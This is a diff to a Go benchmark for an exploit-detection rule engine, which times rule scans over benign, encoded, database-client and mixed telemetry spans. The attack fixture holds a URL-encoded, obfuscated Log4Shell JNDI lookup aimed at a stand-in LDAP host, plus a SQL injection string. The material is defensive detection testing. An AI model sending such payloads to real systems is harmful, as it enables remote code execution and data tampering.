@@ -9,7 +9,8 @@ import (
 )
 
 // BenchmarkRulesScan measures exploit rule evaluation per span on
-// realistic benign server spans (the common case) and on attacks.
+// realistic benign server spans (the common case), on attacks, and on a
+// mix of one attack in a hundred spans of several shapes.
 func BenchmarkRulesScan(b *testing.B) {
 	rules := mustRules(b)
 	benign := telemetry.Span{Service: "shop", Kind: telemetry.SpanKindServer, Name: "GET /products/{id}", Attrs: telemetry.Attrs{
@@ -21,15 +22,28 @@ func BenchmarkRulesScan(b *testing.B) {
 	attack.Attrs.URLQuery = "q=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fx.example%2Fa%7D&id=1%27%20OR%20%271%27%3D%271"
 	client := telemetry.Span{Service: "shop", Kind: telemetry.SpanKindClient, Name: "SELECT", Attrs: telemetry.Attrs{
 		DBSystem: "postgresql", DBQueryText: "SELECT id, name, price FROM products WHERE id = $1 AND deleted_at IS NULL"}}
+	encoded := benign
+	encoded.Attrs.URLPath, encoded.Attrs.URLQuery = "/search", "q=red%20shoes%20size%2042&sort=price%3Aasc&page=2"
+	encoded.Attrs.RequestHeaders = map[string]string{"cookie": "session=3f2a9c; theme=dark; consent=yes", "referer": "https://shop.example/search?q=red+shoes"}
+	var mixed []*telemetry.Span
+	for i := range 100 {
+		mixed = append(mixed, []*telemetry.Span{&benign, &encoded, &client}[i%3])
+	}
+	mixed[50] = &attack
 	for _, bc := range []struct {
-		name string
-		sp   *telemetry.Span
-	}{{"benign-server", &benign}, {"attack-server", &attack}, {"db-client", &client}} {
+		name  string
+		spans []*telemetry.Span
+	}{
+		{"benign-server", []*telemetry.Span{&benign}}, {"benign-encoded", []*telemetry.Span{&encoded}},
+		{"attack-server", []*telemetry.Span{&attack}}, {"db-client", []*telemetry.Span{&client}}, {"mixed", mixed},
+	} {
 		b.Run(bc.name, func(b *testing.B) {
 			b.ReportAllocs()
 			cpu0 := cpuTime()
+			i := 0
 			for b.Loop() {
-				rules.Scan(bc.sp, func(Hit) {})
+				rules.Scan(bc.spans[i%len(bc.spans)], func(Hit) {})
+				i++
 			}
 			// CPU time, not wall time: on a shared machine the wall
 			// clock measures the neighbours too.
